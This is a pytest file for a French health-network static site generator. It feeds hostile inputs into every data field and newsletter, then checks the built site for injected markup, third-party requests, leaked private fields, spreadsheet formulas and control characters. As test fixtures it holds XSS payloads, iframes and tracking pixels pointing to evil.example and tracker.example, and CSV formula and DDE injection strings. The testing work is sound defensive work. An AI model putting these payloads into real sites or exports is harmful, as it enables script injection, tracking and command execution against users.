"""The hostile corpus (issue 15, « Done means »): every hostile input of test_hostile.py and of the classes of
test_safety.py goes into every text field of the data and into every newsletter body; the site builds, and no
output file holds live markup, a request to another server than the map tiles, a link outside the site and the
data's own links, a pro field of the public edition, a spreadsheet formula or a raw control character."""

from __future__ import annotations

import csv
import gc
import io
import json
import re
import shutil
import xml.etree.ElementTree as ET
from html import unescape
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from helpers import MINIMAL, ROOT, replace_in
from test_hostile import HOSTILE

import site_builder.validate  # noqa: F401 - imports every kind, so every schema exists
from site_builder.cli import main
from site_builder.converters import text, text_list
from site_builder.kinds.cost_scale import OVERRIDE as OVERRIDE_SCALE
from site_builder.kinds.cost_scale import SHIPPED as SHIPPED_SCALE
from site_builder.render.maps import TILE_PROVIDERS
from site_builder.schema import Schema
from site_builder.validate import load_model

SITE_URL = "https://cls.exemple.fr/"
TILE_HOST = TILE_PROVIDERS["osm"].url.split("{", 1)[0]
# Starts of a spreadsheet formula, a CDN address, C1 and escape controls (stripped), a shortcode of each kind.
PREFIXES = ['=HYPERLINK("https://evil.example/?"&A1;"clic") ', "+cmd|' /C calc'!A0 ", "-2+3 ", "@SUM(A1:A9) ", ""]
EXTRA = (" :smile: :material-phone: ![pixel](https://tracker.example/p.gif) <iframe src=https://evil.example/>"
         "</iframe> <a href=javascript:alert(5)>a</a> \x1b[31m \x9b31m \x90 https://cdn.jsdelivr.net/x.png")
HOSTILE_MARKDOWN = """

## Titre <script>alert(11)</script>

<script>alert(12)</script>
<iframe src="https://evil.example/frame"></iframe>
<img src="https://tracker.example/pixel.gif" alt="">
<img src=x onerror=alert(13)>
<p onclick="alert(14)" style="background:url(https://tracker.example/bg.png)">clic</p>
<style>body { background: url(https://tracker.example/style.png) }</style>

[lien](javascript:alert(15)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxNik8L3NjcmlwdD4=)
<a href="javascript:alert(17)">a</a> <a href="JaVaScRiPt:alert(18)">b</a> <a href="&#106;avascript:alert(19)">c</a>

![pixel](https://tracker.example/pixel2.gif)

<svg onload=alert(20)></svg> <math><mi xlink:href="javascript:alert(21)">m</mi></math>
<form action="https://evil.example/"><input name=x></form>
<link rel=stylesheet href="https://evil.example/s.css">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<object data="https://evil.example/o"></object><embed src="https://evil.example/e">

<div markdown="1">**gras** <script>alert(22)</script></div>

:smile: :material-phone:

Un lien autorisé : [le site](https://www.exemple.fr/autorise). Une image du site :
![carte](../assets/vendor/leaflet/images/marker-icon.png)

""" + HOSTILE + "\n"

# Text fields the minimal data lacks, added so that every field of every schema is fed (values replaced below).
ADDITIONS = {
    "cls.yml": "presentation: [x]\nhistorique:\n  - periode: x\n    titre: x\n    resume: [x]\ngouvernance:\n"
               "  - id: copil\n    nom: x\n    sigle: x\n    presidence: x\n    missions: [x]\n    composition: [x]\n"
               "    frequence: x\ncoordination: [x]\naccroche: [x]\nurgences:\n  - nom: x\n    telephone: \"116 117\"\n"
               "    quand: x\n",
    "structures.yml": '  - id: ssiad-test\n    nom: x\n    typologie: ssiad\n    adresse: x\n    code_postal: "45300"\n'
                      '    code_insee: "45252"\n    commune: Pithiviers\n    latitude: 48.172\n    longitude: 2.25\n'
                      "    date_maj: 2026-01-15\n    source: finess\n    id_source: x\n    fermeture_temporaire:\n"
                      "      du: 2026-01-01\n      au: 2026-01-31\n      motif: x\n"
                      "    seniors:\n      statut: public\n      zone_intervention: x\n",
    "communes-voisines.yml": 'communes_voisines:\n  - nom: x\n    code_postal: "45340"\n    code_insee: "45035"\n'
                             "    departement: x\n    latitude: 48.07\n    longitude: 2.43\n",
}
INSERTIONS = [  # (file, after this line, lines to add)
    ("programme/axe-1.yml", "titre: Prévention", "description: [x]"),
    ("programme/axe-1.yml", "        outils: [Locaux]",
     "        prerequis: [x]\n        resultats_attendus: [x]\n        freins: [x]\n        pistes: [x]\n"
     "        points_vigilance: [x]\n        financements: [x]\n        leviers:\n          technique: [x]\n"
     "          organisationnel: [x]\n          financier: [x]"),
    ("organisations.yml", "    sigle: PETR", "    description: x"),
    ("structures.yml", "    adresse: 1 rue de l'Exemple",
     "    complement_adresse: x\n    presentation_resume: x\n    presentation_detail: x\n    source: x"),
    ("structures.yml", "      referent: Dr Secret", "      note: x\n      courriel_direct: canari-courriel@exemple.fr"),
    ("evenements.yml", "    statut: prevu", "    accessibilite: x"),
    ("structures.yml", "    presentation_detail: x",  # the team of msp-test, with its pro-only numbers
     '    professionnels:\n      - nom: x\n        profession: medecin-generaliste\n        prenom: x\n'
     '        civilite: x\n        specialite: x\n        rpps: "19912345678"\n      - nom: x\n'
     '        profession: infirmier\n        adeli: "459987654"'),
]
NOT_FED = {"libelle": "an indicator's label is also its key in data/suivi/*.yml",
           "logo": "must name an image of content/ (checked at validation)"}
# Pro fields of msp-test, to be found nowhere in the public edition.
CANARIES = {"telephone_direct": ("02 61 91 00 02", "0261910002", "+33261910002"),
            "courriel_direct": ("canari-courriel@exemple.fr", "canari-courriel%40exemple.fr"),
            "rpps": ("19912345678",), "adeli": ("459987654",)}
TEXT_FILES = {".html", ".xml", ".json", ".geojson", ".csv", ".ics", ".txt", ".js", ".css", ".svg", ".md"}


def text_fields() -> set[str]:
    """The names of every field whose converter is free text, in every schema of the data."""
    return {f.name for schema in gc.get_objects() if isinstance(schema, Schema) for f in schema.fields
            if f.convert in (text, text_list)}


def yaml_string(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's), control characters escaped."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f]", lambda m: f"\\x{ord(m.group()):02x}", json.dumps(value, ensure_ascii=False)
                  .replace("\\u001b", "\x1b"))


def feed(data: Path) -> set[str]:
    """Replace the value of every text field of every data file by a hostile text; return the fields fed."""
    shutil.copy(SHIPPED_SCALE, data / OVERRIDE_SCALE)  # the territory's own copy of the senior cost scale
    for name, addition in ADDITIONS.items():
        path = data / name
        path.write_text((path.read_text(encoding="utf-8") if path.exists() else "") + addition, encoding="utf-8")
    for name, after, lines in INSERTIONS:
        replace_in(data / name, after + "\n", f"{after}\n{lines}\n")
    wanted = text_fields() - set(NOT_FED)
    fed: set[str] = set()
    communes: dict[str, str] = {}  # a commune's name, and the hostile name that replaces it everywhere
    count = 0
    for path in sorted(data.rglob("*")):
        if path.suffix not in (".yml", ".md"):
            continue
        lines = path.read_text(encoding="utf-8").split("\n")
        in_list = ""  # a text field written as a block list: its items are fed too
        for index, line in enumerate(lines):
            item = re.match(r"^(\s*- )(\S.*)$", line)
            if in_list and item:
                count += 1
                lines[index] = f"{item.group(1)}{yaml_string(f'{PREFIXES[count % len(PREFIXES)]}{HOSTILE}{EXTRA}')}"
                continue
            block = re.match(r"^\s*(?:- )?([a-z_]+):\s*$", line)
            in_list = block.group(1) if block and block.group(1) in wanted else ""
            fed |= {in_list} - {""}
            match = re.match(r"^(\s*(?:- )?)([a-z_]+):[ \t]*(\S.*)$", line)
            if not match or match.group(2) not in wanted:
                continue
            key, value = match.group(2), match.group(3).strip("\"'")
            if key == "commune" or (path.name == "communes.yml" and key == "nom"):
                hostile = communes.setdefault(value, f"{HOSTILE} commune {len(communes) + 1}")
            else:
                count += 1
                hostile = f"{PREFIXES[count % len(PREFIXES)]}{HOSTILE}{EXTRA} n°{count}"
            lines[index] = f"{match.group(1)}{key}: {yaml_string(hostile)}"
            fed.add(key)
        path.write_text("\n".join(lines), encoding="utf-8")
    for issue in (data / "lettres").glob("*.md"):
        issue.write_text(issue.read_text(encoding="utf-8") + HOSTILE_MARKDOWN, encoding="utf-8")
    return fed


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path, set[str]]:
    """(project, built site, text fields fed)."""
    project = tmp_path_factory.mktemp("corpus")
    shutil.copytree(MINIMAL, project / "data")
    for name in ("content", "overrides"):
        shutil.copytree(ROOT / name, project / name)
    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
    (project / "mkdocs.yml").write_text(config.replace("      data_dir: data", "      data_dir: data\n"
                                                       "      guide_pdf: false"), encoding="utf-8")
    shutil.rmtree(project / "content" / "bien-vieillir")  # its pages name the example's structures
    page = "# Test\n\nÀ la main : :smile: :material-phone:\n\n<!-- cls:agenda -->\n\n<!-- cls:lettre -->\n"
    for name in ("index.md", "le-cls.md"):
        (project / "content" / name).write_text(page, encoding="utf-8")
    fed = feed(project / "data")
    result = CliRunner().invoke(main, ["build", "-f", str(project / "mkdocs.yml"), "--date", "2026-11-23"])
    assert result.exit_code == 0, result.output
    return project, project / "site", fed


def test_every_text_field_is_fed(corpus: tuple[Path, Path, set[str]]) -> None:
    project, _, fed = corpus
    assert fed == text_fields() - set(NOT_FED)
    msp = next(s for s in load_model(project / "data", project).structures if s.id == "msp-test")
    assert msp.pro.telephone_direct == CANARIES["telephone_direct"][0]
    assert msp.pro.referent.startswith(PREFIXES[0][:5]) or "alert(1)" in msp.pro.referent
    assert "alert(1)" in msp.pro.note


class Elements(HTMLParser):
    """Every element with its attributes, and the text of every script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {k: v or "" for k, v in attrs}))
        self._in_script = tag == "script"

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script:
            self.scripts.append(data)


def code_of(script: str) -> str:
    """A script without its string literals: data from the site's data may sit only inside those."""
    return re.sub(r'"(?:\\.|[^"\\\n])*"|\'(?:\\.|[^\'\\\n])*\'', '""', script)


def parse(html: str) -> Elements:
    parser = Elements()
    parser.feed(html)
    return parser


def documents(site: Path) -> list[tuple[str, str]]:
    """(name, HTML) of every HTML page, and of the HTML content of every Atom entry."""
    found = [(p.relative_to(site).as_posix(), p.read_text(encoding="utf-8")) for p in site.rglob("*.html")]
    for entry in ET.parse(site / "atom.xml").getroot().iter("{http://www.w3.org/2005/Atom}content"):
        found.append(("atom.xml", entry.text or ""))
    return found


REQUESTING = {("img", "src"), ("img", "srcset"), ("script", "src"), ("link", "href"), ("iframe", "src"),
              ("source", "src"), ("source", "srcset"), ("video", "poster"), ("object", "data"), ("embed", "src"),
              ("form", "action"), ("input", "formaction"), ("button", "formaction"), ("body", "background")}


def _absolute(url: str) -> bool:
    return bool(re.match(r"^\s*([a-z][a-z0-9+.-]*:|//)", url, re.I))


def test_no_live_markup(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    pages = documents(site)
    assert len(pages) > 20 and any(name == "atom.xml" for name, _ in pages)
    for name, html in pages:
        parsed = parse(html)
        for tag, attributes in parsed.elements:
            assert tag not in {"iframe", "object", "embed", "base", "frame"}, (name, tag)
            assert not (tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh"), name
            for key, value in attributes.items():
                assert not key.startswith("on"), (name, tag, key, value)
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.I) or key not in (
                    "href", "src", "action", "formaction", "xlink:href"), (name, tag, key, value)
        assert not [s for s in parsed.scripts if "alert(" in code_of(s)], name
    issue = (site / "lettre" / "numero-1" / "index.html").read_text(encoding="utf-8")
    assert "alert(12)" not in issue and "alert(1)" in unescape(issue)  # script dropped, text of data shown


def test_no_request_to_another_server(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    for name, html in documents(site):
        for tag, attributes in parse(html).elements:
            for key, value in attributes.items():
                urls = [value] if (tag, key) in REQUESTING else []
                urls += re.findall(r"url\(\s*['\"]?([^'\")]+)", value) if key == "style" else []
                for url in urls:
                    assert not _absolute(url) or url.startswith((SITE_URL, TILE_HOST)), (name, tag, key, url)
    for path in site.rglob("*"):
        if path.suffix in TEXT_FILES:
            content = path.read_text(encoding="utf-8")
            assert not re.search(r"<img[^>]*(twemoji|jsdelivr)", content), path


def data_links(data: Path) -> set[str]:
    """The data's own links: the values of its address fields, the links written in newsletter bodies, and
    those of the hand-written pages of content/."""
    found = {url for page in (data.parent / "content").rglob("*.md")
             for url in re.findall(r"\]\((https?://[^)\s]+)\)|<(https?://[^>\s]+)>", page.read_text(encoding="utf-8"))
             for url in url if url}
    for path in data.rglob("*"):
        if path.suffix in (".yml", ".md"):
            content = path.read_text(encoding="utf-8")
            found |= set(re.findall(r"^\s*(?:site_web|accessibilite_lieu|inscription|portail|lettre_inscription):"
                                    r"\s*(https?://\S+)", content, re.M))
            if path.suffix == ".md":
                found |= set(re.findall(r"\]\((https?://[^)\s]+)\)", content.split("\n---\n", 1)[1]))
    return found - {"https://tracker.example/pixel2.gif"}  # an image, not a link: must be dropped


# Links written in the code, the same on every site: the maps' attribution, the national senior portal.
CHROME_LINKS = ("https://www.openstreetmap.org/copyright", "https://leafletjs.com",
                "https://www.pour-les-personnes-agees.gouv.fr/",
                "https://osmfoundation.org/wiki/Privacy_Policy",  # the privacy page's maps paragraph (a block)
                "https://www.openstreetmap.org/directions?route=", "geo:",  # a fiche's itinerary: coordinates, not text
                "https://www.openstreetmap.org/?mlat=",  # a map's place, for a browser without JavaScript
                "webcal://cls.exemple.fr/",  # the agenda's subscription, on the site's own address
                "https://calendar.google.com/calendar/r?cid=webcal%3A%2F%2Fcls.exemple.fr%2F")  # the same, for Android


def test_links_go_only_to_the_site_and_the_datas_own_links(corpus: tuple[Path, Path, set[str]]) -> None:
    project, site, _ = corpus
    allowed = data_links(project / "data")
    assert "https://www.exemple.fr/autorise" in allowed
    for name, html in documents(site):
        for tag, attributes in parse(html).elements:
            href = attributes.get("href", "") if tag in ("a", "area") else ""
            if _absolute(href) and not href.startswith(("mailto:", "tel:", SITE_URL, *CHROME_LINKS)):
                assert href in allowed, (name, href)
    for page in ("lettre/numero-1/index.html", "lettre/numero-1/courriel.html", "atom.xml"):
        content = unescape((site / page).read_text(encoding="utf-8"))
        assert 'href="https://www.exemple.fr/autorise"' in content, page  # the allow-list keeps what is fine
        assert 'src="https://cls.exemple.fr/assets/vendor/leaflet/images/marker-icon.png"' in content or (
            'src="../../assets/vendor/leaflet/images/marker-icon.png"' in content), page  # the site's own image
    assert "<strong>gras</strong>" in (site / "lettre" / "numero-1" / "index.html").read_text(encoding="utf-8")


def test_emoji_shortcodes_make_no_external_request(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    fiche = (site / "repertoire" / "msp-test" / "index.html").read_text(encoding="utf-8")
    heading = unescape(re.search(r"<h1[^>]*>(.*?)</h1>", fiche, re.S).group(1))  # the name, through Markdown
    assert ":smile: :material-phone:" in heading  # data text stays text
    home = (site / "index.html").read_text(encoding="utf-8")
    assert "😄" in home and '<span class="twemoji"><svg' in home  # hand-written: a character, an inline icon
    for path in site.rglob("*.html"):
        text = path.read_text(encoding="utf-8").replace("https://cdn.jsdelivr.net/x.png", "")
        # the one in data text is text, also when a mailto: link carries it URL-encoded
        assert "cdn.jsdelivr.net" not in text.replace("https%3A%2F%2Fcdn.jsdelivr.net%2Fx.png", ""), path


def test_newsletter_html_is_sanitised_everywhere(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    feed_html = "".join(html for name, html in documents(site) if name == "atom.xml")
    page = (site / "lettre" / "numero-1" / "index.html").read_text(encoding="utf-8")
    article = re.search(r"<article.*?</article>", page, re.S).group()  # the issue, without the theme's chrome
    for name, html in (("page", article),
                       ("e-mail", (site / "lettre" / "numero-1" / "courriel.html").read_text(encoding="utf-8")),
                       ("feed", feed_html)):
        parsed = parse(html)
        sources = [a.get("src", "") for tag, a in parsed.elements if tag == "img"]
        assert not [s for s in sources if "tracker.example" in s], (name, sources)
        assert not [s for s in parsed.scripts if "alert(" in code_of(s)], name
        assert not [(t, a) for t, a in parsed.elements if t in ("iframe", "form", "style", "svg", "math")
                    or any(k.startswith("on") or k == "style" and "url(" in v for k, v in a.items())], name


def test_no_pro_field_reaches_the_public_edition(corpus: tuple[Path, Path, set[str]]) -> None:
    project, site, _ = corpus
    msp = next(s for s in load_model(project / "data", project, edition="pro").structures if s.id == "msp-test")
    canaries = [*CANARIES["telephone_direct"], *CANARIES["courriel_direct"], msp.pro.referent, msp.pro.note,
                *CANARIES["rpps"], *CANARIES["adeli"]]
    for path in site.rglob("*"):
        if path.suffix in TEXT_FILES:
            content = path.read_text(encoding="utf-8")
            for canary in canaries:
                assert canary not in content and canary not in unescape(content), (path, canary)
    assert not (site / "coordination").exists()


def _cells(path: Path) -> list[str]:
    content = path.read_text(encoding="utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(content), delimiter=";") for cell in row]


def test_csv_exports_hold_no_formula(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    files = [site / "repertoire" / "structures.csv", *sorted((site / "suivi").glob("bilan-*.csv"))]
    assert len(files) == 3
    cells = [cell for path in files for cell in _cells(path)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-(?!\d+([.,]\d+)?$)", cell), cell


def test_no_raw_control_character_in_any_output(corpus: tuple[Path, Path, set[str]]) -> None:
    _, site, _ = corpus
    files = [p for p in site.rglob("*") if p.suffix in TEXT_FILES]
    assert len(files) > 30
    for path in files:
        content = path.read_text(encoding="utf-8")
        found = sorted({f"U+{ord(c):04X}" for c in re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", content)})
        assert found == [], (path, found)


@pytest.mark.browser
def test_a_visitor_meets_no_dialog_and_no_third_party_request(browser, corpus: tuple[Path, Path, set[str]]) -> None:
    import functools
    import http.server
    import threading

    _, site, _ = corpus
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(site))
    handler.log_message = lambda *args: None
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    site_url = f"http://127.0.0.1:{server.server_address[1]}"
    outside: list[str] = []

    def route(request_route) -> None:  # noqa: ANN001 - Playwright's Route
        url = request_route.request.url
        if url.startswith(site_url):
            request_route.continue_()
        else:
            if not url.startswith((TILE_HOST.rstrip("/"), SITE_URL)):  # the e-mail's images: the public site
                outside.append(url)
            request_route.abort()

    context = browser.new_context(locale="fr-FR")
    context.route("**/*", route)
    tab = context.new_page()
    dialogs: list[str] = []
    tab.on("dialog", lambda dialog: (dialogs.append(f"{tab.url}: {dialog.message}"), dialog.dismiss()))
    try:
        for page in ("", "lettre/numero-1/", "lettre/numero-1/courriel.html", "programme/action-1-1-1/", "suivi/",
                     "repertoire/msp-test/", "agenda/atelier-test/", "carte/", "le-cls/"):
            tab.goto(f"{site_url}/{page}")
            tab.wait_for_timeout(300)  # maps and scripts run (popups: test_hostile.py)
    finally:
        context.close()
        server.shutdown()
    assert dialogs == [] and outside == []
